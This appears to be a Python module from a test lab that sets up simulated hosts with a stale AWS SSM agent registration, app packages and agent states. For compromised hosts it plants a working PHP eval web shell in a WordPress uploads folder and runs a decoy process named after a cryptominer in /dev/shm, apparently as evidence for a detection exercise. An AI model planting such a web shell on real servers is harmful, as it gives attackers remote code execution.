"""What a scenario puts into a box: the stale registration of its image, the agent, the apps, the intruder."""

from __future__ import annotations

import shutil
import threading
from pathlib import Path

from lab.agent.stale import StaleRegistration, write_stale_state
from lab.box.apps import App, app_for, build_app_deb
from lab.box.box import Box
from lab.box.keys import make_registration_key
from lab.box.machine import put
from lab.errors import LabError
from lab.scenario import Host, Scenario

HOLD = "run/lab/hold"  # services named in this folder are not started by PID 1
AGENT = "amazon-ssm-agent"
INTRUDER = "dev/shm/.x/kdevtmpfsi"
WEB_SHELL = "var/www/html/wp-content/uploads/2021/05/thumb.php"


class Furnisher:
    """Fills boxes; packages and the state of an image are made once and used for every clone of it."""

    def __init__(self, scenario: Scenario, base: Path, folder: Path, agent_deb: Path) -> None:
        self.scenario = scenario
        self.base = base
        self.folder = folder
        self.agent_deb = agent_deb
        self._making = threading.Lock()  # of what several boxes share

    def write_state(self, host: Host, box: Box) -> None:
        """Before the box starts: what the image carries with it."""
        if not host.is_hybrid:
            return
        image = self.folder / "images" / (host.image or host.name)
        with self._making:
            if not image.exists():
                image.mkdir(parents=True)
                write_stale_state(
                    image, self._registration(host, box), half_repaired=host.agent == "half-repaired"
                )
        shutil.copytree(image, box.upper, dirs_exist_ok=True)
        for private in ("root", "var/lib/amazon", "var/lib/amazon/ssm"):
            (box.upper / private).chmod(0o700)
        if host.agent == "half-repaired":
            shutil.rmtree(box.upper / "var/lib/amazon/ssm" / host.mi_id)

    def _registration(self, host: Host, box: Box) -> StaleRegistration:
        return StaleRegistration(
            instance_id=host.mi_id,
            region=host.mi_region,
            fingerprint=host.fingerprint,
            machine_id=box.machine.machine_id,
            same_hardware=host.agent != "stale-fingerprint",
            threshold=-1 if host.agent == "hybrid-deliberate" else 40,
            private_key=make_registration_key(),
        )

    def build_apps(self, host: Host) -> list[Path]:
        """The packages of what runs on a host; each is built when it is first asked for."""
        with self._making:
            return [build_app_deb(app, self.base, self.folder) for app in _apps(host)]

    def install(self, host: Host, box: Box) -> None:
        """In the running box: packages by dpkg, and what else runs there."""
        debs = self.build_apps(host)
        if host.agent != "none":
            debs.append(self.agent_deb)
            if host.agent in ("stopped", "disabled"):
                put(box.root / HOLD / AGENT, "")
        if debs:
            self._dpkg(box, debs)
        for app in _apps(host):
            for path, text in app.site.items():
                put(box.root / path, text, 0o640 if path.endswith("config.php") else 0o644)
        if host.agent == "disabled":
            disable_agent(box)
        (box.root / HOLD / AGENT).unlink(missing_ok=True)
        if host.compromised:
            self._break_in(box)

    def _dpkg(self, box: Box, debs: list[Path]) -> None:
        packages = box.root / "var/cache/apt/archives"
        inside = []
        for deb in debs:
            shutil.copy(deb, packages / deb.name)
            inside.append(f"/var/cache/apt/archives/{deb.name}")
        done = box.run("dpkg", "--force-unsafe-io", "-i", *inside, timeout_s=120)
        if done.returncode != 0:
            lines = (done.stderr or done.stdout).strip().splitlines()
            raise LabError(
                f"{box.name}: dpkg could not install {', '.join(d.name for d in debs)}: {lines[-1:]}"
            )
        for path in inside:
            (box.root / path.lstrip("/")).unlink()

    def _break_in(self, box: Box) -> None:
        """A process whose executable lies in /dev/shm, and PHP where only pictures should be."""
        put(box.root / WEB_SHELL, "<?php @eval($_POST['x']);\n")
        place = box.root / INTRUDER
        place.parent.mkdir(parents=True)
        shutil.copy(box.root / "usr/bin/sleep", place)
        place.chmod(0o755)
        box.run("sh", "-c", f"setsid /{INTRUDER} 1000000 </dev/null >/dev/null 2>&1 &", check=True)


def _apps(host: Host) -> list[App]:
    return [app_for(name, host.operating_system.version) for name in host.apps]


def disable_agent(box: Box) -> None:
    if box.machine.init == "systemd":
        box.run("systemctl", "disable", AGENT, check=True)
    else:
        put(box.root / f"etc/init/{AGENT}.override", "manual\n")
